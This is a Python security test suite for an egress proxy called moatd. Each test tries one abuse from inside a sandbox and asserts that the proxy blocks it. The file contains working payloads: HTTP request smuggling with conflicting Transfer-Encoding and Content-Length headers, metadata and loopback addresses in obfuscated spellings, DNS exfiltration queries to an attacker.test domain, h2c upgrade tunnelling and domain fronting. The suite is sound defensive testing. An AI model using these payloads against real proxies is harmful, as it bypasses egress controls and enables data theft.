#!/usr/bin/env python3
"""Egress control under attack (docs/EGRESS.md): what a program inside an
environment (root in its user namespace, any code) tries in order to reach
what it must not, smuggle data or requests out, learn a secret's value, hurt
moatd or other environments, or get around the gate. Every test tries one
abuse and asserts that it fails; tests of defences that already held
document them.

Runs in the world of egress_test.py (its own network namespace, a test
"internet" on loopback addresses, moatd inside it), with a few more pieces:

- HOST_PUBLIC_IP: an address of moatd's own host (as a public interface
  address would be), with a service listening on every address (0.0.0.0);
- a raw HTTP server on api.example.test:8081 (and TLS on :8443) that frames
  requests as RFC 9112 says and records what it acted on;
- a DNS "spy" on the host resolver's address: it records every question
  moatd sends upstream and answers a few names of its own (spy.test).

  egress_abuse_test.py --bin-dir build/bin [-k NAME]

Needs root (exits 77, CTest's "skipped", with SKIP otherwise).
"""

import json
import os
import re
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time
import unittest

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import egress_test as base  # noqa: E402
from egress_test import (API, API_IP, HOST_SERVICE_PORT, LOOPBACK_NAME, METADATA_NAME, OTHER,  # noqa: E402
                         OTHER_IP, PLAIN_IP, SECRET_VALUE, Env, Moatd, allow)

HOST_PUBLIC_IP = "198.51.100.77"   # moatd's host's own address, named in no --egress-hosts line
HOST_WIDE_PORT = 8100              # a host service on 0.0.0.0: every address of the host
RAW_PORT, RAW_TLS_PORT = 8081, 8443
DENY_ME = "deny-me.spy.test"       # the spy resolves it to OTHER_IP
HEAD_TIMEOUT_S = 5                 # this suite's moatd --egress-head-timeout (the default is 30)
WORLD = None
RAW = None
RAW_TLS = None
SPY = None

# What a program inside uses: raw sockets, so that nothing (curl, urllib)
# tidies the attack up first. response() reads one HTTP response.
LIB = r'''
import os, socket, ssl, sys, time, json, struct
PH, PP = os.environ.get('HTTP_PROXY', 'http://0.0.0.0:0')[7:].split(':'); PP = int(PP)
def proxy():
    return socket.create_connection((PH, PP), timeout=5)
def tls(sock, name):
    ctx = ssl.create_default_context(cafile='/etc/moat/ca-bundle.crt')
    return ctx.wrap_socket(sock, server_hostname=name)
def read_head(s):
    buf = b''
    try:
        while b'\r\n\r\n' not in buf:
            d = s.recv(1)
            if not d: break
            buf += d
    except (OSError, ssl.SSLError):
        pass
    return buf
def response(s):
    head = read_head(s)
    if not head.endswith(b'\r\n\r\n'):
        return 0, head.decode('latin-1'), b''
    text = head.decode('latin-1')
    status = int(text.split(' ')[1])
    length = 0
    for line in text.split('\r\n')[1:]:
        k, _, v = line.partition(':')
        if k.strip().lower() == 'content-length': length = int(v.strip())
    body = b''
    try:
        while len(body) < length:
            d = s.recv(length - len(body))
            if not d: break
            body += d
    except (OSError, ssl.SSLError):
        pass
    return status, text, body
def ask(s, data):
    s.sendall(data if isinstance(data, bytes) else data.encode())
    return response(s)
def tunnel(host, port, sni=None):
    s = proxy()
    status, head, _ = ask(s, 'CONNECT %s:%d HTTP/1.1\r\nHost: %s:%d\r\n\r\n' % (host, port, host, port))
    if status != 200: return None, status
    return tls(s, sni or host), status
def closed(s):
    try:
        return s.recv(1) == b''
    except OSError:
        return True
'''


def run(argv, check=True):
    return subprocess.run(argv, check=check, capture_output=True, text=True)


# --- the extra pieces of the world --------------------------------------


class RawServer:
    """HTTP/1.1 by the book: Transfer-Encoding values of every field joined,
    chunked last frames the body, any other coding in a request is a 400.
    Records every request it acts on. /redirect answers 302 with the query
    reflected in Location, /cookie sets a cookie to the X-Token header, a
    request with "Upgrade: h2c" gets 101 (then the connection goes on as
    HTTP/1.1: what an h2c server would do with HTTP/2 frames), one with
    "Upgrade: websocket" gets 101 and an echo of every byte after it."""

    def __init__(self, address, port, tls=None):
        self.seen = []
        self.tls = tls
        self.sock = socket.create_server((address, port))
        threading.Thread(target=self.loop, daemon=True).start()

    def paths(self):
        return [r["path"] for r in self.seen]

    def loop(self):
        while True:
            conn, _ = self.sock.accept()
            threading.Thread(target=self.handle, args=(conn,), daemon=True).start()

    def handle(self, conn):
        try:
            if self.tls:
                conn = self.tls.wrap_socket(conn, server_side=True)
            f = conn.makefile("rb")
            while self.one(conn, f):
                pass
        except (OSError, ssl.SSLError, ValueError):
            pass
        finally:
            conn.close()

    def one(self, conn, f):
        line = f.readline(65537)
        if not line:
            return False
        parts = line.decode("latin-1").rstrip("\r\n").split(" ")
        if len(parts) != 3:
            self.reply(conn, 400, b"bad request line")
            return False
        method, target, _ = parts
        headers = []
        while True:
            h = f.readline(65537)
            if h in (b"\r\n", b"\n", b""):
                break
            name, _, value = h.decode("latin-1").partition(":")
            headers.append((name.strip().lower(), value.strip()))
        get = lambda n: [v for k, v in headers if k == n]  # noqa: E731
        codings = [c.strip().lower() for v in get("transfer-encoding") for c in v.split(",") if c.strip()]
        body = b""
        if codings and codings[-1] == "chunked":
            while True:
                size = int(f.readline(100).split(b";")[0].strip(), 16)
                if size == 0:
                    while f.readline(65537) not in (b"\r\n", b"\n", b""):
                        pass
                    break
                body += f.read(size)
                f.readline(10)
        elif codings:
            self.seen.append({"method": method, "path": target, "headers": headers, "body": b""})
            self.reply(conn, 400, b"unframeable")
            return False
        elif get("content-length"):
            body = f.read(int(get("content-length")[0]))
        self.seen.append({"method": method, "path": target, "headers": headers, "body": body})
        if [u for u in get("upgrade") if u.lower() == "h2c"]:
            conn.sendall(b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n")
            return True
        if [u for u in get("upgrade") if u.lower() == "websocket"]:
            conn.sendall(b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n")
            while True:  # echoes whatever comes (frames or not)
                data = f.read1(4096)
                if not data:
                    return False
                conn.sendall(data)
        if target.startswith("/redirect"):
            query = target.partition("?")[2]
            self.reply(conn, 302, b"moved", [("Location", f"https://{API}:{RAW_TLS_PORT}/landing?{query}")])
        elif target.startswith("/cookie"):
            token = (get("x-token") or [""])[0]
            self.reply(conn, 200, b"cookie", [("Set-Cookie", f"t={token}; Path=/")])
        else:
            self.reply(conn, 200, json.dumps({"path": target, "headers": headers}).encode())
        return True

    @staticmethod
    def reply(conn, status, body, extra=()):
        head = f"HTTP/1.1 {status} X\r\nContent-Length: {len(body)}\r\n"
        head += "".join(f"{k}: {v}\r\n" for k, v in extra)
        conn.sendall(head.encode() + b"\r\n" + body)


class DnsSpy:
    """Listens where the host's resolver would be (/etc/resolv.conf, in the
    test's own network namespace): every question moatd sends upstream ends
    up in `questions`. Answers A for `records`, NXDOMAIN for the rest, or
    nothing at all while `silent` (a resolver that times out)."""

    def __init__(self):
        self.questions = []
        self.records = {}
        self.silent = False
        servers = []
        try:
            with open("/etc/resolv.conf") as f:
                for line in f:
                    words = line.split()
                    if len(words) >= 2 and words[0] == "nameserver" and re.fullmatch(r"[0-9.]+", words[1]):
                        servers.append(words[1])
        except OSError:
            pass
        self.servers = servers or ["127.0.0.1"]
        for address in self.servers:
            if not address.startswith("127."):
                run(["ip", "addr", "add", address + "/32", "dev", "lo"], check=False)
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.bind((address, 53))
            threading.Thread(target=self.loop, args=(s,), daemon=True).start()

    def loop(self, s):
        while True:
            data, peer = s.recvfrom(4096)
            try:
                name, qtype, end = parse_question(data)
            except (IndexError, ValueError):
                continue
            self.questions.append((name, qtype))
            if self.silent:
                continue
            address = self.records.get(name) if qtype == 1 else None
            flags = 0x8180 if address or qtype != 1 else 0x8183
            out = data[:2] + struct.pack(">HHHHH", flags, 1, 1 if address else 0, 0, 0) + data[12:end]
            if address:
                out += struct.pack(">HHHIH", 0xC00C, 1, 1, 5, 4) + socket.inet_aton(address)
            s.sendto(out, peer)


def parse_question(data):
    pos, labels = 12, []
    while data[pos]:
        labels.append(data[pos + 1:pos + 1 + data[pos]].decode("latin-1"))
        pos += 1 + data[pos]
    qtype = struct.unpack(">H", data[pos + 1:pos + 3])[0]
    return ".".join(labels).lower(), qtype, pos + 5


def dns_query(name, qtype=1, qid=0x1234):
    q = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\0" + struct.pack(">HH", qtype, 1)


def extend_world(world):
    global RAW, RAW_TLS, SPY
    run(["ip", "addr", "add", HOST_PUBLIC_IP + "/32", "dev", "lo"])
    world.serve("host-wide", "0.0.0.0", HOST_WIDE_PORT, None)
    RAW = RawServer(API_IP, RAW_PORT)
    RAW_TLS = RawServer(API_IP, RAW_TLS_PORT, world.tls)
    SPY = DnsSpy()
    SPY.records[DENY_ME] = OTHER_IP


# --- the tests ------------------------------------------------------------


class AbuseTest(unittest.TestCase):
    moatd = None

    @classmethod
    def setUpClass(cls):
        cls.moatd = Moatd(base.BIN_DIR, WORLD, ["--egress-head-timeout", str(HEAD_TIMEOUT_S)])

    @classmethod
    def tearDownClass(cls):
        if cls.moatd:
            cls.moatd.stop()
            cls.moatd.remove()

    def setUp(self):
        self.envs = []
        SPY.silent = False

    def tearDown(self):
        for e in self.envs:
            e.destroy()
        self.assertIsNone(self.moatd.proc.poll(), "moatd died:\n" + self.moatd.log())

    def env(self, **create):
        e = Env(self.moatd, WORLD, **create)
        self.envs.append(e)
        return e

    def py(self, env, code, timeout_ms=60000):
        code_, out, err = env.python(LIB + code, timeout_ms)
        self.assertEqual(code_, 0, f"inside: {out}\n{err}")
        return out

    def assert_every_one_counted(self, env, type_, happened, probe):
        """After a flood of `happened` events of `type_`, some recorded and the
        rest left out: runs `probe` (one more such event) until a recorded one
        carries the count of those left out, then checks that recorded plus
        suppressed is every one that happened."""
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline:
            self.py(env, probe)
            happened += 1
            recorded = self.events(env, type_)
            if any(ev["data"].get("suppressed") for ev in recorded):
                break
        suppressed = sum(ev["data"].get("suppressed", 0) for ev in recorded)
        self.assertGreater(suppressed, 0)
        self.assertEqual(len(recorded) + suppressed, happened)

    def events(self, env, type_="egress."):
        out, since = [], 0
        while True:
            status, body = self.moatd.call("GET", f"/v1/events?environment={env.id}&type={type_}&since={since}")
            self.assertEqual(status, 200, body)
            text = body.decode() if isinstance(body, bytes) else json.dumps(body)
            page = [json.loads(line[6:]) for line in text.splitlines() if line.startswith("data: ")]
            out += page
            if len(page) < 1000:
                return out
            since = page[-1]["id"]

    def link(self, env):
        status, body = self.moatd.call("GET", f"/v1/environments/{env.id}/network")
        self.assertEqual(status, 200, body)
        return body["link"]

    def healthy(self):
        self.assertEqual(self.moatd.call("GET", "/healthz", token=False)[0], 200)

    def moatd_counts(self):
        pid = self.moatd.proc.pid
        return len(os.listdir(f"/proc/{pid}/fd")), len(os.listdir(f"/proc/{pid}/task"))

    def moatd_fds(self):
        """moatd's descriptors: number -> what it points at, a socket with
        its kind and addresses where /proc/<moatd>/net knows it."""
        pid = self.moatd.proc.pid
        by_netns = {}   # a path to each network namespace: processes' and those moatd holds open
        paths = [f"/proc/{p}/ns/net" for p in os.listdir("/proc") if p.isdigit()]
        paths += [f"/proc/{pid}/fd/{fd}" for fd in os.listdir(f"/proc/{pid}/fd")]
        for path in paths:
            try:
                target = os.readlink(path)
            except OSError:
                continue
            if target.startswith("net:["):
                by_netns.setdefault(target, path)
        sockets = {}
        for netns, path in by_netns.items():
            listing = subprocess.run(
                ["nsenter", f"--net={path}", "sh", "-c",
                 "for k in tcp tcp6 udp udp6 unix; do echo \"# $k\"; cat /proc/self/net/$k; done"],
                capture_output=True, text=True).stdout
            kind = None
            for line in listing.splitlines():
                f = line.split()
                if line.startswith("# "):
                    kind = f[1]
                elif kind == "unix" and len(f) > 6 and f[6].isdigit():
                    sockets.setdefault(f[6], f"unix {f[7] if len(f) > 7 else '(unnamed)'}")
                elif kind and kind != "unix" and len(f) > 9 and f[9].isdigit():
                    sockets.setdefault(f[9], f"{kind} {f[1]}->{f[2]} state {f[3]} in {netns}")
        fds = {}
        for fd in os.listdir(f"/proc/{pid}/fd"):
            try:
                target = os.readlink(f"/proc/{pid}/fd/{fd}")
            except OSError:
                continue
            inode = target[8:-1] if target.startswith("socket:[") else None
            fds[int(fd)] = f"{target} {sockets.get(inode, '')}".strip()
        return fds

    def assert_fds_back(self, before, slack=2, wait_s=15):
        """moatd's descriptor count comes back to within `slack` of `before`
        (a moatd_fds() taken earlier); on failure names the new ones."""
        deadline = time.monotonic() + wait_s
        while len(self.moatd_fds()) > len(before) + slack and time.monotonic() < deadline:
            time.sleep(0.05)
        now = self.moatd_fds()
        new = {fd: t for fd, t in now.items() if before.get(fd) != t}
        self.assertLessEqual(len(now), len(before) + slack,
                             "descriptors moatd holds now and did not before:\n" +
                             "\n".join(f"  {fd}: {t}" for fd, t in sorted(new.items())))

    # --- (1) reaching what is not allowed ---------------------------------

    def test_host_own_public_address_is_unreachable(self):
        # A service on 0.0.0.0 of moatd's host answers on the host's public
        # address too: "open" must not make it a destination.
        e = self.env(network="open")
        out = self.py(e, f'''
s = proxy()
print('forward', ask(s, 'GET http://{HOST_PUBLIC_IP}:{HOST_WIDE_PORT}/x HTTP/1.1\\r\\nHost: {HOST_PUBLIC_IP}:{HOST_WIDE_PORT}\\r\\n\\r\\n'))
s = proxy()
print('connect', ask(s, 'CONNECT {HOST_PUBLIC_IP}:{HOST_WIDE_PORT} HTTP/1.1\\r\\n\\r\\n')[0])
''')
        self.assertNotIn("host-wide", out)
        self.assertIn("connect 403", out)
        self.assertTrue(self.events(e, "egress.denied"))

    def test_other_environments_are_unreachable(self):
        a = self.env(network=allow(API))
        b = self.env(network="open")
        status, body = self.moatd.call("POST", f"/v1/environments/{a.id}/processes", {"cmd": [
            "python3", "-c", "import socket,time\ns=socket.create_server(('0.0.0.0', 8000))\n"
            "open('/tmp/listening','w').close()\nwhile True: c,_=s.accept(); c.sendall(b'env-a-secret'); c.close()"]})
        self.assertEqual(status, 201, body)
        deadline = time.monotonic() + 10
        while a.exec(["test", "-e", "/tmp/listening"])[0] != 0 and time.monotonic() < deadline:
            time.sleep(0.05)
        address, gateway = self.link(a)["address"], self.link(a)["gateway"]
        out = self.py(b, f'''
for target in (('{address}', 8000), ('{gateway}', 8000), ('{address}', 80)):
    try:
        s = socket.create_connection(target, timeout=3); print('connected', target, s.recv(100))
    except OSError as x:
        print('refused', target, x)
s = proxy()
print('forward', ask(s, 'GET http://{address}:8000/ HTTP/1.1\\r\\nHost: {address}:8000\\r\\n\\r\\n')[0])
s = proxy()
print('connect', ask(s, 'CONNECT {address}:8000 HTTP/1.1\\r\\n\\r\\n')[0])
''')
        self.assertNotIn("env-a-secret", out)
        self.assertNotIn("connected", out)
        self.assertIn("forward 403", out)
        self.assertIn("connect 403", out)

    def test_gateway_serves_nothing_but_the_proxy_and_dns(self):
        e = self.env(network=allow(API))
        out = self.py(e, f'''
import errno
for port in (22, 53, 7070, 8099, {HOST_SERVICE_PORT}, 25, 1):
    try:
        socket.create_connection((PH, port), timeout=3); print('open', port)
    except ConnectionRefusedError:
        print('reset', port)
    except OSError as x:
        print('other', port, x)
''')
        self.assertNotIn("open", out)
        self.assertEqual(out.count("reset"), 7, out)

    def test_special_addresses_in_every_spelling(self):
        # Loopback of moatd's host (a service on 127.0.0.1), metadata, this
        # network, the stand-in range: as decimal, hex, octal, short forms.
        e = self.env(network="open")
        targets = [f"127.0.0.1:{HOST_SERVICE_PORT}", f"127.1:{HOST_SERVICE_PORT}", f"0x7f.1:{HOST_SERVICE_PORT}",
                   f"2130706433:{HOST_SERVICE_PORT}", f"0177.0.0.1:{HOST_SERVICE_PORT}", f"0:{HOST_SERVICE_PORT}",
                   f"localhost:{HOST_SERVICE_PORT}", f"LOCALHOST:{HOST_SERVICE_PORT}",
                   f"{LOOPBACK_NAME}:{HOST_SERVICE_PORT}", "169.254.169.254", "2852039166", "0xa9fea9fe",
                   "0251.0376.0251.0376", METADATA_NAME, "100.64.0.1:3128", "198.18.0.1", "10.0.0.1",
                   "192.168.1.1", "224.0.0.1", "255.255.255.255"]
        out = self.py(e, f'''
for t in {targets!r}:
    s = proxy()
    st, head, body = ask(s, 'GET http://%s/ HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n' % (t, t))
    print(t, st, 'moat' if 'X-Moat-Egress: denied' in head else 'UPSTREAM', body[:60])
    s = proxy()
    print(t, 'connect', ask(s, 'CONNECT %s HTTP/1.1\\r\\n\\r\\n' % (t if ':' in t else t + ':443'))[0])
for host in ('169.254.169.254', '2852039166', '127.0.0.1:{HOST_SERVICE_PORT}', '{METADATA_NAME}'):
    s = socket.create_connection(('169.254.169.254', 80), timeout=5)
    st, head, body = ask(s, 'GET / HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n' % host)
    print('transparent', host, st, 'moat' if 'X-Moat-Egress: denied' in head else 'UPSTREAM')
''')
        self.assertNotIn("host-service", out)
        self.assertNotIn("UPSTREAM", out)
        self.assertNotIn("connect 200", out)

    def test_environment_cannot_reconfigure_its_network(self):
        # Root inside has no CAP_NET_ADMIN or CAP_NET_RAW over its network
        # namespace (owned by the initial user namespace): no new address
        # (another slot's, to pass rp_filter), no route, no IPv6, no raw IP.
        # Each attempt must fail for want of the permission, not for a
        # missing tool or a typo: the error is the kernel's.
        e = self.env(network=allow(API))
        for script, error in (
                ("ip addr add 100.64.0.6/30 dev eth0", "RTNETLINK answers: Operation not permitted"),
                ("ip route replace default via 100.64.0.5", "RTNETLINK answers: Operation not permitted"),
                ("ip link set eth0 down", "RTNETLINK answers: Operation not permitted"),
                # /proc/sys is read-only inside: EROFS before any permission check.
                ("echo 0 > /proc/sys/net/ipv6/conf/all/disable_ipv6", "Read-only file system"),
                ("python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)'",
                 "PermissionError: [Errno 1] Operation not permitted")):
            code, out, err = e.sh(script)
            self.assertNotEqual(code, 0, f"{script}: {out}")
            self.assertIn(error, out + err, script)

    # --- (2) getting data out ------------------------------------------------

    def test_dns_sends_nothing_upstream_for_unlisted_names(self):
        e = self.env(network=allow(API))
        before = len(SPY.questions)
        names = ["c2VjcmV0.exfil.attacker.test", "data-0011.attacker.test", "x." + API + ".attacker.test"]
        out = self.py(e, f'''
import random
def q(name, qtype, to):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
    h = struct.pack('>HHHHHH', 7, 0x0100, 1, 0, 0, 0)
    for label in name.split('.'): h += bytes([len(label)]) + label.encode()
    s.sendto(h + b'\\0' + struct.pack('>HH', qtype, 1), to)
    try:
        r = s.recv(600); return r[3] & 15, struct.unpack('>H', r[6:8])[0]
    except OSError: return 'none', 0
for name in {names!r}:
    for qtype in (1, 16, 28, 15, 255, 5):
        for to in ((PH, 53), ('8.8.8.8', 53), ('{OTHER_IP}', 53)):
            print(name, qtype, to[0], q(name, qtype, to))
for qtype in (16, 255, 15):
    print('allowed', qtype, q('{API}', qtype, (PH, 53)))
''')
        for line in out.splitlines():
            if line.startswith("allowed"):
                self.assertTrue(line.endswith("(0, 0)"), line)  # no error, no records
            else:
                self.assertTrue(line.endswith("(5, 0)"), line)  # REFUSED
        leaked = [q for q in SPY.questions[before:] if "attacker" in q[0] or q[0] == API]
        self.assertEqual(leaked, [])

    def test_duplicate_transfer_encoding_cannot_smuggle_a_request(self):
        # The proxy reads a chunked body (the second Transfer-Encoding) but
        # used to write it unframed (Beast's serializer looks at the first):
        # the upstream then reads the body's bytes as a request of its own,
        # one the path rules never saw.
        e = self.env(network={"allow": [{"host": API, "paths": ["/public/**"]}]})
        before = len(RAW.seen)
        out = self.py(e, f'''
smuggled = b'0\\r\\n\\r\\nGET /admin/smuggled HTTP/1.1\\r\\nHost: {API}:{RAW_PORT}\\r\\n\\r\\n'
head = b'POST http://{API}:{RAW_PORT}/public/upload HTTP/1.1\\r\\nHost: {API}:{RAW_PORT}\\r\\n'
chunked = b'%x\\r\\n' % len(smuggled) + smuggled + b'\\r\\n0\\r\\n\\r\\n'
for te, body in ((b'Transfer-Encoding: identity\\r\\nTransfer-Encoding: chunked\\r\\n', chunked),
                 (b'Transfer-Encoding: gzip\\r\\nTransfer-Encoding: chunked\\r\\n', chunked),
                 (b'Transfer-Encoding: chunked\\r\\nTransfer-Encoding: identity\\r\\n', chunked),
                 (b'Transfer-Encoding : chunked\\r\\n', chunked),
                 (b'Transfer-Encoding:\\r\\n chunked\\r\\n', chunked),
                 (b'Transfer-Encoding: \\x0bchunked\\r\\n', chunked),
                 (b'Transfer-Encoding: chunked, chunked\\r\\n', chunked),
                 (b'Transfer-Encoding: xchunked\\r\\n', chunked),
                 (b'Content-Length: 0\\r\\nContent-Length: %d\\r\\n' % len(smuggled), smuggled),
                 (b'Content-Length: %d\\r\\nTransfer-Encoding: chunked\\r\\n' % len(chunked), chunked),
                 (b'Transfer-Encoding: chunked\\r\\nContent-Length: 5\\r\\n', chunked)):
    s = proxy()
    print(ask(s, head + te + b'\\r\\n' + body)[0], response(s)[0])
''')
        paths = RAW.paths()[before:]
        self.assertFalse([p for p in paths if "admin" in p], paths)

    def test_transfer_encoding_the_proxy_cannot_frame_is_refused(self):
        # RFC 9112 6.3: a request whose last coding is not chunked has no
        # knowable length: 400, never passed on for the upstream to guess.
        e = self.env(network=allow(API))
        before = len(RAW.seen)
        out = self.py(e, f'''
for te in ('gzip', 'chunked, identity', 'identity'):
    s = proxy()
    print(te, ask(s, 'POST http://{API}:{RAW_PORT}/te HTTP/1.1\\r\\nHost: {API}:{RAW_PORT}\\r\\n'
                     'Transfer-Encoding: %s\\r\\n\\r\\n5\\r\\nhello\\r\\n0\\r\\n\\r\\n' % te)[0])
s = proxy()
print('both', ask(s, 'POST http://{API}:{RAW_PORT}/te HTTP/1.1\\r\\nHost: {API}:{RAW_PORT}\\r\\n'
                     'Content-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n5\\r\\nhello\\r\\n0\\r\\n\\r\\n')[0])
''')
        self.assertEqual(out.count(" 400"), 4, out)
        self.assertEqual([p for p in RAW.paths()[before:] if p == "/te"], [])

    def test_pipelined_requests_are_each_decided(self):
        e = self.env(network={"allow": [{"host": API, "methods": ["GET"], "paths": ["/public/**"]}]})
        before = len(RAW.seen)
        out = self.py(e, f'''
s = proxy()
s.sendall(b'GET http://{API}:{RAW_PORT}/public/a HTTP/1.1\\r\\nHost: {API}:{RAW_PORT}\\r\\n\\r\\n'
          b'DELETE http://{API}:{RAW_PORT}/public/a HTTP/1.1\\r\\nHost: {API}:{RAW_PORT}\\r\\n\\r\\n'
          b'GET http://{API}:{RAW_PORT}/admin HTTP/1.1\\r\\nHost: {API}:{RAW_PORT}\\r\\n\\r\\n')
print(response(s)[0], response(s)[0], response(s)[0])
''')
        self.assertIn("200 403", out)
        self.assertEqual(RAW.paths()[before:], ["/public/a"])

    def test_h2c_upgrade_does_not_open_an_unchecked_tunnel(self):
        # After a 101 the proxy relays bytes without looking: an upstream that
        # speaks h2c would take any request in them, past the path rules.
        e = self.env(network={"allow": [{"host": API, "paths": ["/public/**"]}]})
        before = len(RAW.seen)
        out = self.py(e, f'''
s = proxy()
print(ask(s, 'GET http://{API}:{RAW_PORT}/public/up HTTP/1.1\\r\\nHost: {API}:{RAW_PORT}\\r\\n'
             'Connection: Upgrade, HTTP2-Settings\\r\\nUpgrade: h2c\\r\\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\\r\\n\\r\\n')[0])
print(ask(s, 'GET /admin/after-upgrade HTTP/1.1\\r\\nHost: {API}:{RAW_PORT}\\r\\n\\r\\n')[0])
''')
        self.assertEqual([p for p in RAW.paths()[before:] if "admin" in p], [], out)

    def test_connect_and_absolute_urls_inside_an_intercepted_tunnel(self):
        e = self.env(network=allow(API, OTHER), secrets=[
            {"name": "API_TOKEN", "value": SECRET_VALUE, "hosts": [API]}])
        out = self.py(e, f'''
for inner in ('CONNECT {OTHER}:443 HTTP/1.1\\r\\nHost: {OTHER}:443\\r\\n\\r\\n',
              'GET http://{OTHER}/abs HTTP/1.1\\r\\nHost: {API}\\r\\n\\r\\n',
              'GET https://{OTHER}/abs HTTP/1.0\\r\\n\\r\\n',
              'GET /x HTTP/1.1\\r\\nHost: {OTHER}\\r\\n\\r\\n'):
    t, st = tunnel('{API}', 443)
    status, head, body = ask(t, inner)
    print(json.dumps([status, 'X-Moat-Egress: denied' in head, body[:80].decode('latin-1')]))
''')
        answers = [json.loads(line) for line in out.splitlines()]
        self.assertEqual(len(answers), 4, out)
        for status, denied, body in answers:
            # 400 (not a path) or 421 (Host is not the tunnel's server name), from moat.
            self.assertIn(status, (400, 421), out)
            self.assertTrue(denied, out)
            self.assertNotIn('"server"', body)

    def test_absolute_urls_and_http10_on_the_transparent_port(self):
        e = self.env(network=allow(API))
        out = self.py(e, f'''
for req in ('GET http://{OTHER}/x HTTP/1.0\\r\\nHost: {API}\\r\\n\\r\\n',
            'GET http://{OTHER}/x HTTP/1.1\\r\\nHost: {API}\\r\\n\\r\\n',
            'GET /x HTTP/1.0\\r\\n\\r\\n',
            'GET /x HTTP/1.1\\r\\nHost: {OTHER}\\r\\n\\r\\n',
            'GET /x HTTP/1.1\\r\\nHost: {API}@{OTHER}\\r\\n\\r\\n',
            'GET /x HTTP/1.1\\r\\nHost: {OTHER}:80\\r\\nHost: {API}\\r\\n\\r\\n',
            'GET /x HTTP/1.1\\r\\nHost: {API}\\r\\n\\r\\nGET /y HTTP/1.1\\r\\nHost: {OTHER}\\r\\n\\r\\n'):
    s = socket.create_connection(('{API_IP}', 80), timeout=5)
    s.sendall(req.encode())
    while True:
        status, head, body = response(s)
        if not status: break
        print(status, body[:50])
''')
        self.assertNotIn('"other.example.test"', out)
        self.assertNotIn(f'"server": "{OTHER}"', out)

    def test_trailing_dot_does_not_dodge_a_deny_entry(self):
        # "other.example.test." is the same host as "other.example.test".
        e = self.env(network={"mode": "open", "deny": [OTHER, DENY_ME]})
        out = self.py(e, f'''
for host in ('{DENY_ME}.', '{OTHER}.', '{DENY_ME.upper()}.'):
    s = proxy()
    st, head, body = ask(s, 'GET http://%s/x HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n' % (host, host))
    print('forward', host, st, body[:60])
    s = proxy()
    print('connect', host, ask(s, 'CONNECT %s:443 HTTP/1.1\\r\\n\\r\\n' % host)[0])
    s = socket.create_connection(('{PLAIN_IP}', 80), timeout=5)
    st, head, body = ask(s, 'GET /x HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n' % host)
    print('transparent', host, st, body[:60])
''')
        self.assertNotIn('"server"', out)
        self.assertNotIn("connect " + DENY_ME + ". 200", out)
        self.assertNotIn(" 200", out)
        denied = [ev["data"] for ev in self.events(e, "egress.denied")]
        self.assertTrue(denied and all(d.get("rule", "").startswith("deny[") for d in denied), denied)

    @unittest.expectedFailure
    def test_host_header_inside_an_uninspected_tunnel(self):
        # NOT FIXED (a limit of deciding by SNI): without secrets or
        # method/path rules a tunnel is relayed as it is, and the proxy never
        # sees the Host header inside. A front that serves many names (a CDN)
        # under an allowed one answers for the others too ("domain
        # fronting"; Encrypted Client Hello is the same thing built in).
        # Interception closes it (see the tunnel test above: 421), at the
        # price of intercepting every tunnel.
        e = self.env(network=allow(API))
        out = self.py(e, f'''
t, st = tunnel('{API}', 443)
status, head, body = ask(t, 'GET /fronted HTTP/1.1\\r\\nHost: {OTHER}\\r\\n\\r\\n')
print(status, body[:200])
''')
        self.assertNotIn('"host": "other.example.test"', out)

    def test_address_the_environment_picks_is_ignored(self):
        # The proxy resolves the name itself: asking for api.example.test at
        # other's address (or the reverse) reaches api.example.test.
        e = self.env(network=allow(API))
        code, out, err = e.exec(["curl", "-sS", "-m", "10", "--noproxy", "*", "--resolve", f"{API}:443:{OTHER_IP}",
                                 "--resolve", f"{API}:80:{OTHER_IP}", f"https://{API}/a", f"http://{API}/b"])
        self.assertEqual(code, 0, err)
        self.assertEqual(out.count(f'"server": "{API}"'), 2, out)
        self.assertNotIn(OTHER + '"', out)

    def test_websocket_upgrade_is_still_relayed(self):
        # What the fix for h2c keeps: a WebSocket upgrade to an allowed path.
        e = self.env(network={"allow": [{"host": API, "paths": ["/public/**"]}]})
        out = self.py(e, f'''
s = proxy()
print(ask(s, 'GET http://{API}:{RAW_PORT}/public/ws HTTP/1.1\\r\\nHost: {API}:{RAW_PORT}\\r\\n'
             'Connection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Version: 13\\r\\n'
             'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\n\\r\\n')[0])
s.sendall(b'\\x81\\x04ping')
print(s.recv(100))
''')
        self.assertIn("101", out)
        self.assertIn("ping", out)

    # --- (3) secrets ---------------------------------------------------------

    def secret_env(self, *hosts, header=None):
        secret = {"name": "API_TOKEN", "value": SECRET_VALUE, "hosts": [API]}
        if header:
            secret["header"] = header
        return self.env(network=allow(*hosts), secrets=[secret])

    def test_redirect_does_not_hand_the_value_back(self):
        # A placeholder in the query string becomes the value on its way to
        # the bound host; a redirect that keeps the query (a very common
        # thing for a server to do) or a cookie made of a header must not
        # bring the value back into the environment.
        e = self.secret_env(API)
        before = len(RAW_TLS.seen)
        code, out, err = e.sh(f'curl -sS -m 10 -D - -o /dev/null "https://{API}:{RAW_TLS_PORT}/redirect?token=$API_TOKEN"; '
                              f'curl -sS -m 10 -D - -o /dev/null -H "X-Token: $API_TOKEN" https://{API}:{RAW_TLS_PORT}/cookie')
        self.assertEqual(code, 0, err)
        self.assertIn(SECRET_VALUE, json.dumps([r["path"] for r in RAW_TLS.seen[before:]]))  # it was injected
        self.assertIn("Location:", out)
        self.assertNotIn(SECRET_VALUE, out)
